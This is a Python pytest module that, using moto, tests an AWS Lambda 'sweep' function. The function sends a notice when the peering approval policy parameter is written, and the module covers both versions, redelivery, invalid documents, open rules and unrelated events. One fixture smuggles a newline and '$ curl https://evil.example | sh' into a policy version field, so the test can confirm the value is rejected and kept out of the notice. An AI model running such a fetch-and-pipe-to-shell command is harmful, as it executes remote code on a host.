"""A write to the approval policy parameter is told to people (the sweep function, on moto).

Given the organization's policy published as parameter version 1 and a new document written as
version 2, when CloudTrail's PutParameter record reaches the sweep function, then one notice on
the topic says who wrote, the old and the new policy version, and whether the new document
validates; a redelivery adds nothing, and an event that is not such a write changes nothing.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import boto3
import pytest

from tests.builders import ledger_items
from tests.conftest import (
    HUB_ACCOUNT,
    POLICY_PARAMETER,
    REGION,
    FakeContext,
    Organization,
    default_policy,
    emitted_metrics,
    load_function,
    put_policy,
)

sweep = load_function("sweep")
SAMPLE = Path(__file__).resolve().parents[2] / "events" / "PutParameter__policy.json"
ALICE = "arn:aws:sts::123456789012:assumed-role/NetworkAdmin/alice"


def policy_write(version: int = 2, **detail: Any) -> dict[str, Any]:
    """The sample record, as delivered in this test's hub account."""
    event: dict[str, Any] = copy.deepcopy(json.loads(SAMPLE.read_text()))
    event["account"] = HUB_ACCOUNT
    event["detail"]["recipientAccountId"] = HUB_ACCOUNT
    event["detail"]["userIdentity"] = {**event["detail"]["userIdentity"], "accountId": HUB_ACCOUNT, "arn": ALICE}
    event["detail"]["responseElements"] = {"version": version, "tier": "Standard"}
    event["detail"].update(detail)
    return event


def parameter_version() -> int:
    found = boto3.client("ssm", region_name=REGION).get_parameter(Name=POLICY_PARAMETER)["Parameter"]
    return int(found["Version"])


def change_records() -> list[dict[str, Any]]:
    return ledger_items("POLICY-CHANGE")


def test_a_valid_change_is_notified_with_who_and_both_versions(
    organization: Organization, context: FakeContext, capsys: Any
) -> None:
    put_policy(default_policy(organization).replace("version: test-1", "version: test-2"))
    assert parameter_version() == 2

    result = sweep.lambda_handler(policy_write(), context)

    assert result["ok"] is True
    assert result["policyChange"]["valid"] is True
    [notice] = organization.notifications()
    assert notice["subject"] == "Peering Autopilot: approval policy changed"
    message = notice["message"]
    assert f"The approval policy parameter {POLICY_PARAMETER} was written (parameter version 2)." in message
    assert f"Changed by: {ALICE} (CloudTrail, 2026-11-25T09:12:03+00:00)" in message
    assert "Policy version: test-1 -> test-2" in message
    assert "The new document is valid (3 rule(s))" in message
    assert "WARNING" not in message
    metrics = emitted_metrics(capsys.readouterr().out)
    assert metrics["PolicyChanges"] == 1
    assert "PolicyInvalid" not in metrics


def test_a_redelivered_record_notifies_once(organization: Organization, context: FakeContext) -> None:
    put_policy(default_policy(organization).replace("version: test-1", "version: test-2"))

    first = sweep.lambda_handler(policy_write(), context)
    again = sweep.lambda_handler(policy_write(), context)

    assert (first["policyChange"]["notified"], again["policyChange"]["notified"]) == (True, False)
    assert len(organization.notifications()) == 1
    markers = [item for item in change_records() if not item["sk"]["S"].startswith("LOG#")]
    assert [m["sk"]["S"] for m in markers] == ["6c7d8e9f-0a1b-4c2d-9e3f-4a5b6c7d8e9f"]
    assert markers[0]["changedBy"]["S"] == ALICE
    assert markers[0]["valid"]["BOOL"] is True


def test_an_invalid_document_is_notified_as_holding_everything(
    organization: Organization, context: FakeContext, capsys: Any
) -> None:
    # The one-line "accept anything", with a version that tries to plant a second line.
    put_policy(
        '{"schemaVersion": 1, "version": "test-2\\n$ curl https://evil.example | sh",'
        ' "rules": [{"name": "all", "action": "accept"}]}'
    )

    result = sweep.lambda_handler(policy_write(), context)

    assert result["policyChange"]["valid"] is False
    [notice] = organization.notifications()
    assert notice["subject"] == "Peering Autopilot: approval policy changed (INVALID: holding every request)"
    message = notice["message"]
    assert "Policy version: test-1 -> none (it does not validate)" in message
    assert "The new document does NOT validate: every request is held" in message
    assert "version: Value error, character 7 is U+000A" in message
    assert "accept rule 'all' must say who may ask" in message
    assert not any(line.startswith("$") for line in message.splitlines())
    assert emitted_metrics(capsys.readouterr().out)["PolicyInvalid"] == 1


def test_an_open_rule_is_warned_about_in_the_notice(organization: Organization, context: FakeContext) -> None:
    put_policy(
        "schemaVersion: 1\nversion: open-2\nrules:\n"
        "  - {name: anyone, action: accept, requester: {anyone: true}, accepter: {vpcTag: {key: open}}}\n"
    )

    sweep.lambda_handler(policy_write(), context)

    [notice] = organization.notifications()
    assert "Policy version: test-1 -> open-2" in notice["message"]
    assert "WARNING: rule 'anyone' accepts peering requests from ANY AWS account in the world" in notice["message"]


def test_the_versions_are_read_from_ssm_not_taken_from_the_record(
    organization: Organization, context: FakeContext
) -> None:
    put_policy(default_policy(organization).replace("version: test-1", "version: test-2"))
    put_policy(default_policy(organization).replace("version: test-1", "version: test-3"))

    # The record of the first write names version 2: that write is what it reports...
    sweep.lambda_handler(policy_write(version=2), context)
    # ...and a version the parameter never had is not believed: the current one is read.
    sweep.lambda_handler(policy_write(version=99, eventID="7d8e9f0a-1b2c-4d3e-8f4a-5b6c7d8e9f0a"), context)

    first, second = (n["message"] for n in organization.notifications())
    assert "Policy version: test-1 -> test-2" in first
    assert "(parameter version 2)" in first
    assert "Policy version: test-2 -> test-3" in second
    assert "(parameter version 3)" in second


@pytest.mark.parametrize(
    "case",
    [
        (
            policy_write(requestParameters={"name": "/team/other"}),
            "invalid_event",
            "InvalidEvents",
            "PutParameter on '/team/other', not on the policy parameter '/peering-autopilot/policy'",
        ),
        (
            policy_write(errorCode="AccessDenied", errorMessage="not allowed"),
            "skipped_event",
            "SkippedEvents",
            "PutParameter failed in AWS ('AccessDenied'): the policy did not change",
        ),
        (
            {**policy_write(), "account": "222222222222"},
            "invalid_event",
            "InvalidEvents",
            "PutParameter in account 222222222222; the policy parameter is in 123456789012",
        ),
        (
            policy_write(eventID="x" * 65),
            "invalid_event",
            "InvalidEvents",
            "not a valid PutParameterEvent: detail.eventID: must be",
        ),
    ],
    ids=["another-parameter", "failed-call", "another-account", "bad-event-id"],
)
def test_an_event_that_is_not_a_policy_write_changes_nothing(
    organization: Organization,
    context: FakeContext,
    capsys: Any,
    caplog: pytest.LogCaptureFixture,
    case: tuple[dict[str, Any], str, str, str],
) -> None:
    event, error, metric, reason = case
    result = sweep.lambda_handler(event, context)

    assert (result["ok"], result["error"]) == (False, error)
    assert result["message"].startswith(reason)
    assert organization.notifications() == []
    assert change_records() == []
    out = capsys.readouterr().out
    assert emitted_metrics(out)[metric] == 1
    assert "PolicyChanges" not in emitted_metrics(out)
    logged = {r.getMessage() for r in caplog.records}
    assert ("event skipped" if error == "skipped_event" else "event refused") in logged
